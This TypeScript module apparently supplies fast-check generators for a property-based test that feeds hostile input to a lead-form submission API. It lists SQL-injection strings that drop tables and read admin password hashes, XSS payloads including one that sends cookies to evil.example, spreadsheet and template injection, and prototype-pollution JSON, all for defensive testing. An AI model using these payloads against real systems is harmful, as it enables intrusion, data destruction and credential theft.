import fc from "fast-check";
import {
  BUDGET_OPTIONS,
  HONEYPOT_FIELD,
  PLATFORM_OPTIONS,
  type FormSubmissionType,
} from "#contracts/leads/form-constants.ts";

// Generators of hostile payloads for the property-based hostile-input test: junk bodies, the classic
// SQL-injection and script payloads inside otherwise valid-looking form fields, malformed JSON.

export const SQL_INJECTION = [
  "'; DROP TABLE submissions; --",
  "' OR '1'='1",
  '" OR ""="',
  "1' OR 1=1 --",
  "admin'--",
  "'); DELETE FROM subscribers; --",
  "' UNION SELECT username, password_hash FROM admin_users --",
  "%' AND 1=1 --",
  "_%\\%\\_",
  "\\'; SELECT pg_sleep(5); --",
  "1; UPDATE admin_users SET password_hash = 'x' --",
  "' || (SELECT token_hash FROM admin_sessions LIMIT 1) || '",
  "'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
  "$1 $2 ? :name @p0",
  "Robert'); DROP TABLE students;--",
  "' AND json_extract(data, '$.email') LIKE '%",
  "') OR data::jsonb ? 'email' --",
] as const;

export const SCRIPT_INJECTION = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  '"><svg onload=alert(1)>',
  "javascript:alert(1)",
  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "{{constructor.constructor('alert(1)')()}}",
  "${7*7} #{7*7} <%= 7*7 %>",
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  '<!--#exec cmd="ls"-->',
] as const;

/** Odd but well-formed text: control characters, bidi overrides, emoji, combining marks. */
export const ODD_TEXT = [
  "\u0000",
  "nul\u0000inside",
  "\u202eevil\u202c",
  "\u2028\u2029",
  "e\u0301\u0301\u0301",
  "👩🏽‍💻 𝕳𝖊𝖑𝖑𝖔",
  "\uFEFFbom",
  "tab\tand\r\nnewline",
  '\\u0000 \\n \\"',
  "__proto__",
  "constructor",
  "null",
  " ",
] as const;

const HOSTILE_STRINGS: readonly string[] = [...SQL_INJECTION, ...SCRIPT_INJECTION, ...ODD_TEXT];

/** SQL-looking e-mail addresses that the shared e-mail rule accepts. */
export const SQL_LOOKING_EMAILS = [
  "o'reilly--@example.com",
  "x'or'1--@example.com",
  "union+select--@example.in",
  "'drop'table'--@example.org",
  "Admin'--@Example.COM",
] as const;

const ascii = (min: number, max: number) => fc.integer({ min, max }).map((code) => String.fromCharCode(code));

/** A header value the HTTP parser lets through: visible ASCII, space, tab and obs-text bytes. */
export const headerValue = fc.oneof(
  fc.string({
    unit: fc.oneof({ weight: 8, arbitrary: ascii(0x20, 0x7e) }, ascii(0x80, 0xff), fc.constant("\t")),
    maxLength: 60,
  }),
  fc.constantFrom(...HOSTILE_STRINGS.filter((s) => /^[\t\x20-\x7e]*$/.test(s))),
);

/** Any text a field might hold: hostile samples, random text, lone surrogates, mixes. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 8 }))
      .map((parts) => parts.join("")),
  },
  { weight: 1, arbitrary: fc.constantFrom("x".repeat(101), "y".repeat(5001), "z".repeat(255)) },
);

/** A JSON value of any shape, hostile strings included. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom(...HOSTILE_STRINGS), fc.jsonValue({ maxDepth: 2 })) },
);

/** A strict field (phone, e-mail, URL, option): usually valid, else hostile text, another JSON type or missing. */
function field<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 40, arbitrary: valid },
    { weight: 2, arbitrary: hostileText },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

/** A free-text field (name, message): valid text or hostile text, which is mostly valid there too. */
function text<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 10, arbitrary: valid },
    { weight: 20, arbitrary: hostileText },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

const validName = fc.constantFrom("Asha Verma", "Ravi Kumar", "  Meera Iyer  ");
const validPhone = fc.constantFrom("+91 98765 43210", "(022) 2345-6789", "9876543210");
/** Addresses the shared e-mail rule accepts (fast-check's emailAddress() allows more than it does). */
export const validEmail = fc.oneof(
  fc.constantFrom("asha@example.in", "RAVI@Example.COM", ...SQL_LOOKING_EMAILS),
  fc.mixedCase(fc.stringMatching(/^[a-z0-9_'+-]{0,10}[a-z0-9_+-]@[a-z0-9]{1,10}\.(com|in|org|co\.uk)$/)),
);
const validUrl = fc.constantFrom(
  "",
  "https://asha.example",
  "http://shop.example/path?q=<script>alert(1)</script>",
  "https://example.com/'--",
);
const validMessage = fc.constantFrom("We need more leads from Google Ads.", "Please call me back.");
const honeypot = fc.oneof(
  { weight: 8, arbitrary: fc.constant(undefined) },
  { weight: 2, arbitrary: fc.constant("") },
  { weight: 1, arbitrary: anyJson },
);

/** A submission envelope that is valid or close to it, with hostile text in some fields. */
export const lookingValidSubmission: fc.Arbitrary<Record<string, unknown>> = fc.oneof(
  fc.record({
    type: field(fc.constant("contact")),
    data: fc.record({
      fullName: text(validName),
      contactNumber: field(validPhone),
      email: field(validEmail),
      website: field(validUrl),
      message: text(validMessage),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
  fc.record({
    type: field(fc.constant("quote")),
    data: fc.record({
      source: fc.oneof(
        { weight: 10, arbitrary: fc.constantFrom(undefined, "quote-page", "home") },
        { weight: 1, arbitrary: hostileText },
      ),
      fullName: text(validName),
      contactNumber: field(validPhone),
      email: field(validEmail),
      websiteUrl: field(validUrl),
      monthlyBudget: field(fc.constantFrom(...BUDGET_OPTIONS)),
      platforms: field(fc.subarray([...PLATFORM_OPTIONS])),
      goals: text(validMessage),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
  fc.record({
    type: field(fc.constant("application")),
    data: fc.record({
      openingId: field(fc.constantFrom("", "seo-specialist", "performance-marketer")),
      openingTitle: text(fc.constantFrom("", "SEO Specialist")),
      fullName: text(validName),
      email: field(validEmail),
      contactNumber: field(validPhone),
      portfolioUrl: field(validUrl.filter((url) => url !== "")),
      coverNote: text(validMessage),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
  fc.record({
    type: field(fc.constant("audit")),
    data: fc.record({
      fullName: text(validName),
      email: field(validEmail),
      auditedUrl: field(fc.constantFrom("http://127.0.0.1:8080/", "https://asha.example/path?q=<script>")),
      auditScore: field(fc.integer({ min: 0, max: 100 })),
      criticalCount: field(fc.nat(40)),
      warningCount: field(fc.nat(40)),
      passedCount: field(fc.nat(40)),
      criticalIssues: field(fc.array(text(fc.constantFrom("Page title", "Indexable")), { maxLength: 5 })),
      warningIssues: field(fc.array(text(fc.constant("Meta description")), { maxLength: 5 })),
    }),
    [HONEYPOT_FIELD]: honeypot,
  }),
);

/** Text that is not JSON, or JSON that a safe parser must refuse. */
const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    " ",
    "{",
    "}",
    '{"type":',
    '{"type":"contact","data":',
    '{"type":"contact","data":{"fullName":"Asha"',
    "[1,2",
    '{"a":1,}',
    "{'type':'contact'}",
    "{type:contact}",
    "NaN",
    "undefined",
    "-",
    "1e999",
    "01",
    '"unterminated',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"type":"contact","data":{"__proto__":{"polluted":1}}}',
    '{"email":"a@example.com","__proto__":{"x":1}}',
    '{"url":"https://example.com","__proto__":{"x":1}}',
    '{"username":"staff","constructor":{"prototype":{"x":1}}}',
    "\uFEFF{}",
    "\u0000",
    '{"a":"\\ud800"}',
    "type=contact&data[fullName]=Asha",
    "<xml><type>contact</type></xml>",
    "[".repeat(5000),
    `${"[".repeat(2000)}${"]".repeat(2000)}`,
    `{"type":"contact","data":${'{"a":'.repeat(1000)}1${"}".repeat(1000)}}`,
  ),
  fc.json({ maxDepth: 3 }).map((text) => text.slice(0, Math.max(0, text.length - 1))),
  fc.string({ unit: "binary", maxLength: 80 }),
);

export type Payload = string | Buffer | undefined;

/** Any body: JSON values, broken JSON, raw bytes, nothing, or one over the 32 KB limit. */
export const hostileBody: fc.Arbitrary<Payload> = fc.oneof(
  { weight: 4, arbitrary: anyJson.map((value) => JSON.stringify(value) ?? "null") },
  { weight: 3, arbitrary: malformedJson },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      JSON.stringify({ type: "contact", data: { message: "x".repeat(40_000) } }),
      JSON.stringify({ email: `${"a".repeat(40_000)}@example.com`, url: "x".repeat(40_000) }),
    ),
  },
);

/** Content types: mostly JSON, then near-misses, other types, junk, or none at all. */

/** One valid form of each type, the same person throughout: a base that a property alters one field of. */
export const VALID_FORMS = {
  contact: {
    fullName: "Asha Verma",
    contactNumber: "+91 98765 43210",
    email: "asha@example.in",
    website: "https://asha.example",
    message: "Hello",
  },
  quote: {
    fullName: "Asha Verma",
    contactNumber: "+91 98765 43210",
    email: "asha@example.in",
    websiteUrl: "",
    monthlyBudget: "₹1-₹1.5 Lakh",
    platforms: ["SEO"],
    goals: "More leads",
  },
  application: {
    openingId: "seo-specialist",
    openingTitle: "SEO Specialist",
    fullName: "Asha Verma",
    email: "asha@example.in",
    contactNumber: "+91 98765 43210",
    portfolioUrl: "https://asha.example/cv.pdf",
    coverNote: "",
  },
  audit: {
    fullName: "Asha Verma",
    email: "asha@example.in",
    auditedUrl: "https://asha.example/",
    auditScore: 62,
    criticalCount: 1,
    warningCount: 2,
    passedCount: 29,
    criticalIssues: ["Page title"],
    warningIssues: ["Meta description", "Open Graph tags"],
  },
} satisfies Record<FormSubmissionType, Record<string, unknown>>;
